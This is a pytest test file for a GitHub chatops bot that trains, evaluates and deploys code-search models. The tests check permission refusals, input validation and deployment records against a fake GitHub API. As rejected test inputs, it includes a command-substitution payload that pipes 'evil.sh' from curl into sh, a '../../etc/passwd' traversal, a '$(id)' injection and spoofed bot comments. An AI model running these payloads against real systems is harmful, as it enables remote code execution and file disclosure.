"""`codesearch chatops` driven by real-shaped GitHub webhook payloads against a loopback stand-in for the GitHub API:
the requests it makes, the comments it writes, the refusals, and that an outsider's command changes nothing."""
import hashlib, json, os, subprocess
from pathlib import Path
import pytest

from codesearch_nb import chatops as C
from codesearch_nb.chatops import sticky_runs, MARKER, USAGE
from codesearch_nb.testing import FakeGitHub, issue_comment_event, fake_run
from codesearch_nb.runs import new_run
from codesearch_nb.cli import main

ROLES = {'olivia': 'admin', 'alice': 'write', 'mia': 'maintain', 'bob': 'read', 'tia': 'triage'}
BASE = 'nbow-20240420-base01'


@pytest.fixture
def gh():
    with FakeGitHub(roles=ROLES) as f: yield f


@pytest.fixture
def ws(tmp_path, monkeypatch):
    w = tmp_path/'ws'
    fake_run(w, BASE, 'nbow', {'mrr': 0.5, 'mrr_python': 0.55, 'cosqa_mrr': 0.3, 'train_seconds': 90})
    (w/'deployed').mkdir()
    (w/'deployed'/'current.json').write_text(json.dumps({'run_id': BASE}))
    for k in ('GITHUB_OUTPUT', 'GITHUB_TOKEN', 'GITHUB_API_URL', 'CODESEARCH_CHATOPS_BOT'): monkeypatch.delenv(k, raising=False)
    return w


class FakeOps:
    "Stand-ins for train/evaluate/leaderboard/deploy that record their calls and write what the real ones write."
    def __init__(self, ws, fail_deploy=False):
        self.ws, self.calls, self.fail_deploy = ws, [], fail_deploy
    def train(self, ws=None, github_sha=None, **kw):
        self.calls.append(('train', dict(kw, github_sha=github_sha)))
        rid = f'{kw.get("model", "nbow")}-20240502-{len(self.calls):06d}'
        return fake_run(ws, rid, kw.get('model', 'nbow'), {'mrr': 0.5 + len(self.calls)/100, 'mrr_python': 0.6, 'train_seconds': 61.5},
                        github_sha=github_sha, **{k: v for k, v in kw.items() if k != 'model'})
    def evaluate(self, run_id, ws=None):
        self.calls.append(('evaluate', run_id))
        p = Path(ws)/'runs'/run_id/'metrics.json'
        m = json.loads(p.read_text()); m['cosqa_mrr'] = 0.31; p.write_text(json.dumps(m))
    def leaderboard(self, ws=None):
        import pandas as pd
        self.calls.append(('leaderboard',))
        return pd.DataFrame([{'model': BASE, 'mrr': 0.5}, {'model': 'bm25', 'mrr': 0.41}])
    def deploy(self, run_id, ws=None):
        self.calls.append(('deploy', run_id))
        if self.fail_deploy: raise RuntimeError('index build ran out of memory')
        (Path(ws)/'deployed'/'current.json').write_text(json.dumps({'run_id': run_id}))


@pytest.fixture
def ops(ws, monkeypatch):
    o = FakeOps(ws)
    monkeypatch.setattr(C, 'Ops', lambda: o)  # what `chatops` uses when nothing is injected
    return o


def cli(gh, ws, tmp_path, capsys=None, **event):
    "Run `codesearch chatops --event FILE` in-process on `issue_comment_event(**event)`; return the exit status."
    ev = tmp_path/f'event-{len(gh.requests)}.json'
    ev.write_text(json.dumps(issue_comment_event(**event)))
    return main(['chatops', '--event', str(ev), '--api-url', gh.url, '--token', gh.token, '--workspace', str(ws)])


def snapshot(ws):
    "Every file of the workspace with a hash of its bytes."
    return {str(p.relative_to(ws)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(Path(ws).rglob('*')) if p.is_file()}


# ---- events that are not for us: no API call at all

@pytest.mark.parametrize('event', [
    dict(body='/train', pr=False),                                   # a plain issue
    dict(body='/train', action='edited'),                            # an edited comment
    dict(body='/deploy nbow-1', action='deleted'),                   # a deleted comment
    dict(body='/train', user='github-actions[bot]', user_type='Bot'), # a bot (our own replies)
    dict(body='Looks good to me; /train later'),                     # not a command
], ids=['plain-issue', 'edited', 'deleted', 'bot', 'not-a-command'])
def test_ignored_events_make_no_request(gh, ws, ops, tmp_path, event):
    before = snapshot(ws)
    assert cli(gh, ws, tmp_path, **event) == 0
    assert gh.requests == [] and ops.calls == [] and snapshot(ws) == before


# ---- permission

@pytest.mark.parametrize('user,assoc,asks_api', [
    ('mallory', 'NONE', False), ('carl', 'CONTRIBUTOR', False), ('fred', 'FIRST_TIME_CONTRIBUTOR', False),
    ('bob', 'COLLABORATOR', True),   # a collaborator with read access only
    ('tia', 'MEMBER', True),         # triage is not write
    ('ghost', 'MEMBER', True),       # the API does not know them (404)
])
def test_outsider_deploy_is_refused_and_changes_nothing(gh, ws, ops, tmp_path, user, assoc, asks_api):
    fake_run(ws, 'cnn-20240502-d4e5f6', 'cnn', {'mrr': 0.9})
    before = snapshot(ws)
    assert cli(gh, ws, tmp_path, body='/deploy cnn-20240502-d4e5f6', user=user, association=assoc) == 0
    assert snapshot(ws) == before and ops.calls == [] and gh.deployments == [] and gh.statuses == []
    want = ['POST /issues/comments/1001/reactions'] + ([f'GET /collaborators/{user}/permission'] if asks_api else []) + \
           ['POST /issues/7/comments', 'POST /issues/comments/1001/reactions']
    assert gh.calls() == want
    assert gh.reactions == [(1001, 'eyes'), (1001, 'confused')]
    (reply,) = gh.comments[7]
    assert reply['body'] == (f'Sorry @{user}, only people with write access to this repository can run chatops commands, '
                             'so nothing was run. A maintainer can comment the command for you.')


@pytest.mark.parametrize('user,assoc', [('olivia', 'OWNER'), ('alice', 'MEMBER'), ('mia', 'COLLABORATOR')])
def test_write_access_roles_may_run(gh, ws, ops, tmp_path, user, assoc):
    assert cli(gh, ws, tmp_path, body='/leaderboard', user=user, association=assoc) == 0
    assert ops.calls == [('leaderboard',)] and gh.reactions[-1] == (1001, 'rocket')


# ---- /train and the sticky comment

def test_train_posts_one_sticky_comment_and_updates_it(gh, ws, ops, tmp_path):
    assert cli(gh, ws, tmp_path, body='/train --model cnn epochs=2 lr=0.001\nwider filters', comment_id=11) == 0
    assert ops.calls == [('train', dict(model='cnn', epochs=2, lr=0.001, github_sha=gh.head_sha)), ('evaluate', 'cnn-20240502-000001')]
    assert gh.calls() == ['POST /issues/comments/11/reactions', 'GET /collaborators/alice/permission', 'GET /pulls/7',
                          'GET /issues/7/comments', 'POST /issues/7/comments', 'POST /issues/comments/11/reactions']
    assert gh.reactions == [(11, 'eyes'), (11, 'rocket')]
    assert gh.requests[0][2] == {'content': 'eyes'}
    (c,) = gh.comments[7]
    body = c['body']
    assert body.startswith(MARKER) and f'deployed baseline `{BASE}`' in body and f'Head commit `{gh.head_sha[:7]}`' in body
    assert f'| metric | baseline `{BASE}` | `cnn-20240502-000001` |' in body
    assert '| MRR (valid) | 0.500 | 0.510 ▲ +0.010 |' in body and '| MRR python | 0.550 | 0.600 ▲ +0.050 |' in body
    assert '| CoSQA MRR | 0.300 | 0.310 ▲ +0.010 |' in body and '| training time | 1m 30s | 1m 02s |' in body
    cfg = json.loads((ws/'runs'/'cnn-20240502-000001'/'config.json').read_text())
    assert cfg['github_sha'] == gh.head_sha
    # a second /train edits the same comment: both runs, one comment
    gh.requests.clear()
    assert cli(gh, ws, tmp_path, body='/train dropout=0.2', comment_id=12) == 0
    assert gh.calls() == ['POST /issues/comments/12/reactions', 'GET /collaborators/alice/permission', 'GET /pulls/7',
                          'GET /issues/7/comments', f'PATCH /issues/comments/{c["id"]}', 'POST /issues/comments/12/reactions']
    assert len(gh.comments[7]) == 1
    assert [r['run_id'] for r in sticky_runs(gh.comments[7][0]['body'])] == ['cnn-20240502-000001', 'nbow-20240502-000003']


def test_sticky_comment_spoofed_by_a_user_is_not_used(gh, ws, ops, tmp_path):
    "A human comment that starts with the marker is neither edited nor read for runs."
    gh.comments[7] = [{'id': 1, 'body': MARKER + '\n<!-- codesearch-nb:runs [{"run_id":"fake","mrr":0.99}] -->',
                       'user': {'login': 'mallory', 'type': 'User'}}]
    assert cli(gh, ws, tmp_path, body='/train') == 0
    assert len(gh.comments[7]) == 2 and 'fake' not in gh.comments[7][1]['body'] and not any(v == 'PATCH' for v, _, _ in gh.requests)


def test_sticky_comment_seeded_by_another_bot_is_ignored(gh, ws, ops, tmp_path):
    "Only the workflow's own login (github-actions[bot], or $CODESEARCH_CHATOPS_BOT) owns the table: another app's bot cannot seed rows."
    assert 'CODESEARCH_CHATOPS_BOT' not in os.environ
    gh.comments[7] = [{'id': 1, 'body': MARKER + '\n<!-- codesearch-nb:runs [{"run_id":"fake-1","mrr":0.99}] -->',
                       'user': {'login': 'evil-app[bot]', 'type': 'Bot'}}]
    assert cli(gh, ws, tmp_path, body='/train') == 0
    assert len(gh.comments[7]) == 2 and 'fake-1' not in gh.comments[7][1]['body'] and not any(v == 'PATCH' for v, _, _ in gh.requests)
    assert gh.comments[7][1]['user']['login'] == 'github-actions[bot]'


def test_sticky_comment_of_a_configured_bot(gh, ws, ops, tmp_path, monkeypatch):
    "With a personal token the workflow names its login; then a github-actions[bot] comment is not ours either."
    monkeypatch.setenv('CODESEARCH_CHATOPS_BOT', 'codesearch-bot')
    assert cli(gh, ws, tmp_path, body='/train') == 0
    assert cli(gh, ws, tmp_path, body='/train', comment_id=2) == 0
    assert len(gh.comments[7]) == 2   # github-actions[bot] wrote both: neither counts as the table of `codesearch-bot`


@pytest.mark.parametrize('only,runs', [(['train'], True), (['eval', 'leaderboard'], False), (['deploy'], False)])
def test_each_job_runs_only_its_commands(gh, ws, ops, tmp_path, only, runs):
    ev = tmp_path/'e.json'; ev.write_text(json.dumps(issue_comment_event('/train')))
    assert main(['chatops', '--event', str(ev), '--api-url', gh.url, '--token', gh.token, '--workspace', str(ws), '--only', *only]) == 0
    assert bool(ops.calls) == runs and bool(gh.comments.get(7)) == runs


def test_eval_without_run_id_uses_the_runs_of_the_pr_head(gh, ws, ops, tmp_path):
    fake_run(ws, 'rnn-20240502-aaaaaa', 'rnn', {'mrr': 0.4}, github_sha=gh.head_sha)
    fake_run(ws, 'rnn-20240501-bbbbbb', 'rnn', {'mrr': 0.4}, github_sha='f' * 40)  # another commit: not this PR's head
    assert cli(gh, ws, tmp_path, body='/eval') == 0
    assert ops.calls == [('evaluate', 'rnn-20240502-aaaaaa')]
    assert '`rnn-20240502-aaaaaa`' in gh.comments[7][0]['body'] and 'bbbbbb' not in gh.comments[7][0]['body']


def test_train_whose_evaluation_breaks_still_reports_the_run(gh, ws, tmp_path, monkeypatch):
    o = FakeOps(ws)
    def broken(run_id, ws=None): raise ValueError('benchmark file is truncated')
    o.evaluate = broken; monkeypatch.setattr(C, 'Ops', lambda: o)
    assert cli(gh, ws, tmp_path, body='/train') == 0
    body = gh.comments[7][0]['body']
    assert '`nbow-20240502-000001`' in body and 'Its evaluation failed (ValueError); `/eval nbow-20240502-000001` retries.' in body


def test_eval_of_an_unknown_run_fails_on_the_pr_and_in_the_job(gh, ws, ops, tmp_path, capsys):
    assert cli(gh, ws, tmp_path, body='/eval nope-123') == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith('error: /eval failed: run nope-123: not in')
    assert ops.calls == [] and gh.reactions[-1] == (1001, 'confused')
    assert gh.comments[7][-1]['body'].startswith('`/eval` failed: run nope-123: not in')


# ---- usage errors

@pytest.mark.parametrize('body,reason', [
    ('/trian', '`/trian` is not a command'),
    ('/train epochs=many', '/train: epochs=many should be an integer in [1, 1000]'),
    ('/train cmd=$(curl evil.sh|sh)', '/train: unknown key `cmd`'),
    ('/deploy ../../etc/passwd', '/deploy: `../../etc/passwd` is not a run id'),
    ('/deploy', '/deploy needs a run id'),
])
def test_malformed_commands_get_usage(gh, ws, ops, tmp_path, body, reason):
    before = snapshot(ws)
    assert cli(gh, ws, tmp_path, body=body) == 0
    assert ops.calls == [] and snapshot(ws) == before
    (c,) = gh.comments[7]
    assert c['body'].startswith(f'@alice {reason}') and USAGE in c['body']
    assert gh.reactions == [(1001, 'eyes'), (1001, 'confused')]


# ---- /leaderboard and /deploy

def test_leaderboard_reply(gh, ws, ops, tmp_path):
    assert cli(gh, ws, tmp_path, body='/leaderboard') == 0
    assert gh.comments[7][0]['body'] == f'### Leaderboard\n\n| model | mrr |\n|---|---|\n| {BASE} | 0.500 |\n| bm25 | 0.410 |'


def test_deploy_creates_a_deployment_and_sets_its_status(gh, ws, ops, tmp_path):
    fake_run(ws, 'cnn-20240502-d4e5f6', 'cnn', {'mrr': 0.6}, github_sha=gh.head_sha)
    assert cli(gh, ws, tmp_path, body='/deploy cnn-20240502-d4e5f6', user='olivia', association='OWNER') == 0
    assert ops.calls == [('deploy', 'cnn-20240502-d4e5f6')]
    (d,) = gh.deployments
    assert d['ref'] == gh.head_sha and d['payload'] == {'run_id': 'cnn-20240502-d4e5f6'} and d['required_contexts'] == []
    assert gh.statuses == [(d['id'], 'in_progress'), (d['id'], 'success')]
    assert json.loads((ws/'deployed'/'current.json').read_text()) == {'run_id': 'cnn-20240502-d4e5f6'}
    assert gh.calls() == ['POST /issues/comments/1001/reactions', 'GET /collaborators/olivia/permission', 'GET /pulls/7',
                          'POST /deployments', f'POST /deployments/{d["id"]}/statuses', f'POST /deployments/{d["id"]}/statuses',
                          'POST /issues/7/comments', 'GET /issues/7/comments', 'POST /issues/comments/1001/reactions']
    assert gh.comments[7][0]['body'].startswith(f'Deployed `cnn-20240502-d4e5f6` (GitHub Deployment {d["id"]})')
    assert gh.reactions[-1] == (1001, 'rocket')


def test_deploy_makes_the_run_the_baseline_of_the_sticky_comment(gh, ws, ops, tmp_path):
    assert cli(gh, ws, tmp_path, body='/train', comment_id=21) == 0
    rid = 'nbow-20240502-000001'
    assert f'deployed baseline `{BASE}`' in gh.comments[7][0]['body']
    assert cli(gh, ws, tmp_path, body=f'/deploy {rid}', comment_id=22) == 0
    sticky = gh.comments[7][0]['body']
    assert f'deployed baseline `{rid}`' in sticky and f'| metric | baseline `{rid}` | `{rid}` |' in sticky
    assert '| MRR (valid) | 0.510 | 0.510 = 0.000 |' in sticky and f'deployed `{rid}`' in sticky


def test_failed_deploy_marks_the_deployment_failed(gh, ws, tmp_path, monkeypatch):
    o = FakeOps(ws, fail_deploy=True); monkeypatch.setattr(C, 'Ops', lambda: o)
    fake_run(ws, 'cnn-20240502-d4e5f6', 'cnn', {'mrr': 0.6})
    assert cli(gh, ws, tmp_path, body='/deploy cnn-20240502-d4e5f6') == 1
    (d,) = gh.deployments
    assert gh.statuses == [(d['id'], 'in_progress'), (d['id'], 'failure')]
    assert json.loads((ws/'deployed'/'current.json').read_text()) == {'run_id': BASE}
    assert gh.comments[7][-1]['body'] == '`/deploy` failed: RuntimeError: index build ran out of memory'


def test_deploy_of_a_run_not_in_the_workspace_records_no_deployment(gh, ws, ops, tmp_path):
    assert cli(gh, ws, tmp_path, body='/deploy cnn-20990101-000000') == 1
    assert gh.deployments == [] and ops.calls == []


def test_deploy_of_an_unfinished_run_records_no_deployment(gh, ws, ops, tmp_path):
    new_run('cnn-20240502-d4e5f6', dict(model='cnn'), ws)  # still training
    assert cli(gh, ws, tmp_path, body='/deploy cnn-20240502-d4e5f6') == 1
    assert gh.deployments == [] and ops.calls == []
    assert "is running; cannot deploy it" in gh.comments[7][-1]['body']


# ---- the gate job, outputs, malformed input

def test_gate_checks_and_parses_but_runs_nothing(gh, ws, ops, tmp_path, monkeypatch):
    out = tmp_path/'github_output'; monkeypatch.setenv('GITHUB_OUTPUT', str(out))
    ev = tmp_path/'e.json'; ev.write_text(json.dumps(issue_comment_event('/train epochs=3')))
    assert main(['chatops', '--event', str(ev), '--api-url', gh.url, '--token', gh.token, '--workspace', str(ws), '--gate']) == 0
    assert out.read_text() == f'status=allowed\ncommand=train\nhead_sha={gh.head_sha}\n'
    assert ops.calls == [] and gh.calls() == ['POST /issues/comments/1001/reactions', 'GET /collaborators/alice/permission', 'GET /pulls/7']


def test_outputs_of_a_run(gh, ws, ops, tmp_path, monkeypatch):
    out = tmp_path/'github_output'; monkeypatch.setenv('GITHUB_OUTPUT', str(out))
    assert cli(gh, ws, tmp_path, body='/train') == 0
    png = ws/'chatops'/'pr-7.png'
    assert out.read_text() == f'status=done\ncommand=train\nrun_id=nbow-20240502-000001\nhead_sha={gh.head_sha}\nplot={png}\n'
    assert png.read_bytes()[:4] == b'\x89PNG'


def test_sha_of_the_checked_out_commit_is_recorded(gh, ws, ops, tmp_path, monkeypatch):
    "The run job passes --sha (the commit the gate resolved and checked out): that is what is recorded, not a newer head."
    for k, v in dict(GITHUB_SERVER_URL='https://github.com', GITHUB_REPOSITORY='octo-org/codesearch', GITHUB_RUN_ID='991').items():
        monkeypatch.setenv(k, v)
    sha = 'a' * 40
    ev = tmp_path/'e.json'; ev.write_text(json.dumps(issue_comment_event('/train')))
    assert main(['chatops', '--event', str(ev), '--api-url', gh.url, '--token', gh.token, '--workspace', str(ws), '--sha', sha]) == 0
    assert ops.calls[0] == ('train', dict(github_sha=sha)) and 'GET /pulls/7' not in gh.calls()
    body = gh.comments[7][0]['body']
    assert 'Head commit `aaaaaaa`' in body and '[Workflow run](https://github.com/octo-org/codesearch/actions/runs/991)' in body
    ev.write_text(json.dumps(issue_comment_event('/train', comment_id=5)))
    assert main(['chatops', '--event', str(ev), '--api-url', gh.url, '--token', gh.token, '--workspace', str(ws), '--sha', '$(id)']) == 1


@pytest.mark.parametrize('text,msg', [('{"action": "created"', 'not JSON'), ('{"action": "created"}', 'missing `repository.full_name`'),
                                      ('[]', 'expected a JSON object')])
def test_malformed_payload_is_one_line_error(gh, ws, tmp_path, capsys, text, msg):
    ev = tmp_path/'e.json'; ev.write_text(text)
    assert main(['chatops', '--event', str(ev), '--api-url', gh.url, '--token', gh.token, '--workspace', str(ws)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and msg in err[0] and gh.requests == []


def test_bad_token_is_one_line_error(gh, ws, tmp_path, capsys):
    ev = tmp_path/'e.json'; ev.write_text(json.dumps(issue_comment_event('/train')))
    assert main(['chatops', '--event', str(ev), '--api-url', gh.url, '--token', 'wrong', '--workspace', str(ws)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert err == ['error: GitHub API POST /repos/octo-org/codesearch/issues/comments/1001/reactions: HTTP 401: Bad credentials']
    assert 'wrong' not in ''.join(err)


def test_codesearch_command_in_a_process(gh, ws, tmp_path):
    "The entry point as the workflow runs it: token and API URL from the environment, the event from a file."
    ev = tmp_path/'e.json'; ev.write_text(json.dumps(issue_comment_event('/deploy x1', user='mallory', association='NONE')))
    env = {**os.environ, 'GITHUB_TOKEN': gh.token, 'GITHUB_API_URL': gh.url, 'CODESEARCH_HOME': str(ws)}
    r = subprocess.run(['codesearch', 'chatops', '--event', str(ev)], capture_output=True, text=True, env=env, timeout=120)
    assert r.returncode == 0, r.stderr
    assert 'refused: mallory' in r.stdout and gh.comments[7][0]['body'].startswith('Sorry @mallory')


# ---- the real training path

@pytest.mark.slow
def test_train_eval_deploy_for_real_on_the_sample_corpus(gh, ws, tmp_path, monkeypatch):
    "The real `train`, `evaluate` and `serve.deploy` behind `/train` and `/deploy`, on the small sample corpus."
    corpus = pytest.importorskip('codesearch_nb.corpus')
    for m in ('codesearch_nb.train', 'codesearch_nb.evaluate', 'codesearch_nb.serve'): pytest.importorskip(m)
    monkeypatch.setenv('WANDB_MODE', 'disabled'); monkeypatch.setenv('CODESEARCH_CHATOPS_BENCHMARKS', '')
    name = corpus.sample_corpus()
    (ws/'corpora').mkdir(exist_ok=True); (ws/'corpora'/name).symlink_to(corpus.sample_ws()/'corpora'/name)
    assert cli(gh, ws, tmp_path, body=f'/train corpus={name} epochs=1', comment_id=31) == 0, gh.comments
    (rid,) = [d.name for d in (ws/'runs').iterdir() if d.name != BASE]
    cfg = json.loads((ws/'runs'/rid/'config.json').read_text())
    m = json.loads((ws/'runs'/rid/'metrics.json').read_text())
    assert cfg['github_sha'] == gh.head_sha and cfg['corpus'] == name
    assert f'csn-{name}' in m['eval'] and 0 < m['eval'][f'csn-{name}']['mrr'] <= 1   # the real evaluation ran
    body = gh.comments[7][0]['body']
    assert f'`{rid}`' in body and '| MRR (valid) | 0.500 |' in body and '| MRR (test) |' in body and gh.reactions[-1] == (31, 'rocket')
    assert cli(gh, ws, tmp_path, body='/leaderboard', comment_id=34) == 0
    assert gh.comments[7][-1]['body'].startswith('### Leaderboard') and rid in gh.comments[7][-1]['body']
    # an outsider cannot deploy it: nothing changes
    before = snapshot(ws)
    assert cli(gh, ws, tmp_path, body=f'/deploy {rid}', user='mallory', association='NONE', comment_id=32) == 0
    assert snapshot(ws) == before and gh.deployments == []
    # the owner can
    assert cli(gh, ws, tmp_path, body=f'/deploy {rid}', user='olivia', association='OWNER', comment_id=33) == 0, gh.comments[7][-1]
    assert json.loads((ws/'deployed'/'current.json').read_text())['run_id'] == rid
    (d,) = gh.deployments
    assert d['payload'] == {'run_id': rid} and gh.statuses == [(d['id'], 'in_progress'), (d['id'], 'success')]
